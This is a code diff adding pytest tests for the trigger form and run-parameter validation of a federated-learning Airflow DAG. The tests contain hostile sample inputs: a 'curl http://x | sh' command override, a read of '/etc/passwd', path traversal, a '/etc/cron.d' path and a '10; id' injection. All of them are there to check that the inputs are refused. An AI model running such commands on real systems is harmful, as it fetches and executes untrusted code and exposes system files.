@@ -13,7 +13,8 @@ from airflow.sdk.exceptions import AirflowFailException
 from xffl_airflow.federation.config import ConfigError, load_config
 from xffl_airflow.federation.connections import ConnectionsUnavailable, connection_problems
 from xffl_airflow.federation.dag import LOCAL_RETRIES, _refusals_fail_at_once, build_federation_dag
-from xffl_airflow.federation.rounds import RoundError
+from xffl_airflow.federation.knobs import RunConfError
+from xffl_airflow.federation.rounds import RoundError, prepare_round
 
 CONFIG = {
     "campaign": "wiring",
@@ -86,7 +87,10 @@ def test_remote_steps_retry_as_configured_and_local_steps_retry_transient_failur
     assert dag.task_dict["aggregate"].upstream_task_ids == {"italy.pull", "czechia.pull"}
 
 
-@pytest.mark.parametrize("refusal", [ConfigError("training.lr: must be > 0"), RoundError("quorum is 2")])
+@pytest.mark.parametrize(
+    "refusal",
+    [ConfigError("training.lr: must be > 0"), RoundError("quorum is 2"), RunConfError("run conf: config: not a setting")],
+)
 def test_a_refusal_of_the_round_fails_without_retries_and_keeps_its_message(refusal):
     def step():
         raise refusal
@@ -109,3 +113,67 @@ def test_other_failures_pass_through_to_be_retried(transient):
 
 def test_a_step_that_succeeds_returns_its_result():
     assert _refusals_fail_at_once(lambda a, *, b: a + b, 2, b=3) == 5
+
+
+def test_the_trigger_form_has_typed_knobs_and_neither_a_config_path_nor_free_overrides(dag):
+    params = dag.params
+    assert "config" not in params and "overrides" not in params
+    assert set(params) == {
+        "campaign", "round", "learning_rate", "lr_schedule", "warmup_steps", "max_steps", "epochs", "seed",
+        "max_rounds", "min_improvement", "patience", "min_update_norm",
+    }  # fmt: skip
+    learning_rate = params.get_param("learning_rate")
+    assert learning_rate.schema == {"type": "number", "exclusiveMinimum": 0, "maximum": 1.0, "title": "training.learning_rate"}
+    assert "peak learning rate" in learning_rate.description
+    assert params.get_param("lr_schedule").schema["enum"] == ["constant", "cosine", "linear"]
+    assert params.get_param("max_rounds").schema["type"] == "integer"
+    assert params["max_rounds"] == 3 and params["max_steps"] is None
+
+
+@pytest.fixture
+def prepare(config_path, connections, tmp_path):
+    storage = tmp_path / "campaigns"
+    data = {**CONFIG, "storage": str(storage), "base_model": str(tmp_path / "model")}
+    with open(config_path, "w") as file:
+        yaml.safe_dump(data, file)
+
+    def run(run_conf):
+        return prepare_round(
+            config_path=config_path, dag_id="xffl_wiring", dag_facilities=["italy", "czechia"],
+            run_conf=run_conf, run_type="manual",
+        )  # fmt: skip
+
+    return run, storage
+
+
+def test_a_hostile_run_conf_is_refused_by_name_before_anything_is_written(prepare):
+    run, storage = prepare
+    with pytest.raises(RunConfError) as refused:
+        run({
+            "round": 0,
+            "campaign": "../other-campaign",
+            "config": "/etc/passwd",
+            "overrides": {"training": {"command": "curl http://x | sh; {python} {model} {data} {out}"}},
+        })  # fmt: skip
+    message = str(refused.value)
+    assert "run conf: config, overrides.training.command: not a setting a run may change" in message
+    assert "params.campaign: a campaign name is 1-64 of" in message
+    assert "curl" not in message and "/etc/passwd" not in message
+    assert not storage.exists() and not (storage.parent / "other-campaign").exists()
+
+
+@pytest.mark.parametrize(
+    ("run_conf", "named"),
+    [
+        ({"campaign": "/etc/cron.d"}, "params.campaign"),
+        ({"round": -1}, "params.round"),
+        ({"round": True}, "params.round"),
+        ({"max_steps": "10; id"}, "params.max_steps"),
+        ({"learning_rate": float("inf")}, "params.learning_rate"),
+    ],
+)
+def test_bad_run_parameters_are_refused_before_anything_is_written(prepare, run_conf, named):
+    run, storage = prepare
+    with pytest.raises(RunConfError, match=named):
+        run(run_conf)
+    assert not storage.exists()
